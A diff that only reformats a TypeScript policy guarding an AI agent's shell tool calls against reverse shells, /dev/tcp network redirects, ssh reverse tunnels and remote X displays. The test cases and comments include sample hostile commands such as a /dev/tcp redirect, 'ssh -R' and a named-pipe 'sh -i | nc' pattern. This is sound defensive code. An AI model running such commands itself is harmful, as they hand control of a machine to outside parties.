@@ -25,16 +25,31 @@ export default definePolicy({
     ],
   },
   on: { PreToolUse: ["Bash", "Monitor"] },
-  programs: new Set([...CONNECTERS, ...programsWith("tunnels"), ...INLINE_LANGUAGES, ...TERMINALS, ...AWKS, "ssh", "autossh"]),
+  programs: new Set([
+    ...CONNECTERS,
+    ...programsWith("tunnels"),
+    ...INLINE_LANGUAGES,
+    ...TERMINALS,
+    ...AWKS,
+    "ssh",
+    "autossh",
+  ]),
   traits: ["redirects", "odd"],
   messages: {
     shell:
-      "This connects a shell to the network: whoever answers at {host} can run anything here. Run the commands that are needed yourself, one by one.",
+      "This connects a shell to the network: whoever answers at {host} can run anything " +
+      "here. Run the commands that are needed yourself, one by one.",
     socket:
-      "This opens a connection to {host} that commands after it can read and write unseen. Use `curl` or `nc` in a command of its own.",
-    connects: "This opens a connection to {host} through bash itself, past the usual programs. Approve only if that host is known.",
-    tunnel: "`{program}` gives somebody outside a way into this machine. Approve only if that is meant.",
-    display: "This shows a terminal of this machine on {host}: whoever sits there can run anything here. Open it locally.",
+      "This opens a connection to {host} that commands after it can read and write unseen. " +
+      "Use `curl` or `nc` in a command of its own.",
+    connects:
+      "This opens a connection to {host} through bash itself, past the usual programs. " +
+      "Approve only if that host is known.",
+    tunnel:
+      "`{program}` gives somebody outside a way into this machine. Approve only if that is meant.",
+    display:
+      "This shows a terminal of this machine on {host}: whoever sits there can run " +
+      "anything here. Open it locally.",
   },
 
   brief: () => "No shell on a network connection.",
@@ -45,17 +60,25 @@ export default definePolicy({
     for (const command of shell.commands) {
       const { at, name } = command;
       const host = socketOf(command);
-      if (host !== undefined && (isOpenShell(command) || command.redirects.length > 2)) yield deny("shell", { host }, at);
+      if (host !== undefined && (isOpenShell(command) || command.redirects.length > 2))
+        yield deny("shell", { host }, at);
       else if (host !== undefined && name === "exec") yield deny("socket", { host }, at);
       else if (host !== undefined) yield ask("connects", { host }, at);
-      if (programsOnSocket(command).some((script) => startsShell(script, scene))) yield deny("shell", { host: "the other end" }, at);
+      if (programsOnSocket(command).some((script) => startsShell(script, scene)))
+        yield deny("shell", { host: "the other end" }, at);
       if (sockets.has(command)) yield deny("shell", { host: "the other end" }, at);
       if (connectsShell(command)) yield deny("shell", { host: "the other end" }, at);
-      if (AWKS.has(name) && command.args.some(({ text }) => /\/inet[46]?\/(?:tcp|udp)\//.test(text)))
+      if (
+        AWKS.has(name) &&
+        command.args.some(({ text }) => /\/inet[46]?\/(?:tcp|udp)\//.test(text))
+      )
         yield deny("shell", { host: "the other end" }, at);
       if (opensTunnel(command)) yield ask("tunnel", { program: name }, at);
-      const display = TERMINALS.has(name) ? readArguments(command.args, "-display").values("-display")[0]?.text : undefined;
-      if (display && !/^(?:localhost|unix)?:/.test(display)) yield deny("display", { host: `\`${display}\`` }, at);
+      const display = TERMINALS.has(name)
+        ? readArguments(command.args, "-display").values("-display")[0]?.text
+        : undefined;
+      if (display && !/^(?:localhost|unix)?:/.test(display))
+        yield deny("display", { host: `\`${display}\`` }, at);
     }
   },
 
@@ -67,7 +90,11 @@ export default definePolicy({
     { bash: "echo hi > /dev/tcp/203.0.113.5/80", expect: { ask: "connects" } },
     { bash: "ssh -R 8080:localhost:3000 example.com", expect: { ask: "tunnel" } },
     { bash: "xterm -display 203.0.113.5:1", expect: { deny: "display" } },
-    { bash: "timeout 1 bash -c 'echo > /dev/tcp/localhost/5432'", expect: "nothing", note: "is the database up?" },
+    {
+      bash: "timeout 1 bash -c 'echo > /dev/tcp/localhost/5432'",
+      expect: "nothing",
+      note: "is the database up?",
+    },
     { bash: "nc -l 4444", expect: "nothing" },
     { bash: "ssh example.com", expect: "nothing" },
   ],
@@ -75,15 +102,21 @@ export default definePolicy({
 
 /** The host that a redirect connects to, unless it is this machine. */
 function socketOf({ redirects }: ShellCommand): string | undefined {
-  const hosts = redirects.flatMap(({ target }) => socketHost(target) ?? []).filter((host) => !isLoopback(host));
+  const hosts = redirects
+    .flatMap(({ target }) => socketHost(target) ?? [])
+    .filter((host) => !isLoopback(host));
   return hosts[0] === undefined ? undefined : `\`${hosts[0]}\``;
 }
 
 /** `sh -i < fifo | nc host 1 > fifo`: what the shell prints goes out. */
 function shellsOnSockets(scene: PolicyContext): ReadonlySet<ShellCommand> {
-  const sockets = scene.shell.commands.filter((command) => isTwoWay(command) && leavesMachine(command));
+  const sockets = scene.shell.commands.filter(
+    (command) => isTwoWay(command) && leavesMachine(command),
+  );
   if (sockets.length === 0) return new Set();
-  const reached = flowOf(scene).collect((command) => (isOpenShell(command) ? [["shell", command] as const] : []));
+  const reached = flowOf(scene).collect((command) =>
+    isOpenShell(command) ? [["shell", command] as const] : [],
+  );
   return new Set(sockets.filter((socket) => reached.has(socket)));
 }
 
@@ -94,9 +127,17 @@ function leavesMachine(command: ShellCommand): boolean {
 
 function opensTunnel({ name, args }: ShellCommand): boolean {
   if (name === "ssh" || name === "autossh")
-    return readArguments(args, `${SSH} -R`).has("-R") || args.some(({ text }) => /^RemoteForward\b/i.test(text.replace(/^-o/, "")));
+    return (
+      readArguments(args, `${SSH} -R`).has("-R") ||
+      args.some(({ text }) => /^RemoteForward\b/i.test(text.replace(/^-o/, "")))
+    );
   const runs = factOf("tunnels", name);
-  if (runs === undefined || args.some(({ text }) => /^--?(?:version|help|h)$|^(?:help|version|list|login|status)$/.test(text)))
+  if (
+    runs === undefined ||
+    args.some(({ text }) =>
+      /^--?(?:version|help|h)$|^(?:help|version|list|login|status)$/.test(text),
+    )
+  )
     return false;
   return runs === "" || args.some(({ text }) => runs.split(" ").includes(text));
 }
